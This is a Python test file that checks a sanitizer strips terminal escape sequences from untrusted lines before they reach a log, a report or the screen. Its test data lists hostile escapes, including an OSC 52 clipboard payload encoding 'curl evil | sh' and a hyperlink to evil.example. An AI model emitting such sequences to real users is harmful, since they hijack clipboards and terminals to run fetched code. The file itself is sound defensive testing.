"""A line from someone else's file reaches neither the terminal nor the report with an escape in it:
the gate log, the report and every screen strip with one definition (cockpit/printable.py)."""

from __future__ import annotations

import pytest

from cockpit.gates.output import terminal_line
from cockpit.printable import printable
from cockpit.report.text import clean_block, clean_line

HOSTILE = [
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # OSC 52: the clipboard
    "\x1b]0;owned\x1b\\",  # OSC 0: the window title, ST-terminated
    "\x1bP+q544e\x1b\\",  # DCS: a terminfo query
    "\x1b_payload\x1b\\",  # APC
    "\x1b[?1049h",  # the alternate screen
    "\x1b]8;;http://evil.example\x1b\\",  # OSC 8: a hyperlink
    "\x1b[2J",  # erase the screen
    "\x9b2J",  # the same, with the 8-bit CSI
    "\x9d52;c;Y3VybCBldmlsIHwgc2g=\x07",  # OSC 52 with the 8-bit OSC
    "\x90+q544e\x9c",  # DCS with the 8-bit introducer and terminator
]


@pytest.mark.parametrize("escape", HOSTILE)
def test_an_escape_in_a_line_reaches_neither_the_log_nor_the_report(escape: str) -> None:
    line = f"before {escape}after"
    for cleaned in (terminal_line(line), clean_line(line), clean_block(line)):
        assert "\x1b" not in cleaned and cleaned.startswith("before ") and cleaned.endswith("after")


@pytest.mark.parametrize("escape", HOSTILE)
def test_the_door_removes_an_escape_and_keeps_the_words_around_it(escape: str) -> None:
    assert printable(f"before {escape}after\tand\nnext") == "before after\tand\nnext"


def test_an_unterminated_escape_stops_at_the_end_of_its_line() -> None:
    # an OSC never closed must not swallow the rest of a SESSION.md
    assert printable("a \x1b]52;c;never closed\nthe rest\r\n") == "a \nthe rest\r\n"


def test_lone_controls_go_or_are_marked_where_a_report_shows_a_byte_was_there() -> None:
    assert printable("bell\x07 cr\r del\x7f c1\x85 esc\x1b") == "bell cr del c1 esc"
    assert printable("nul\x00 cr\r", mark="\ufffd") == "nul\ufffd cr\ufffd"
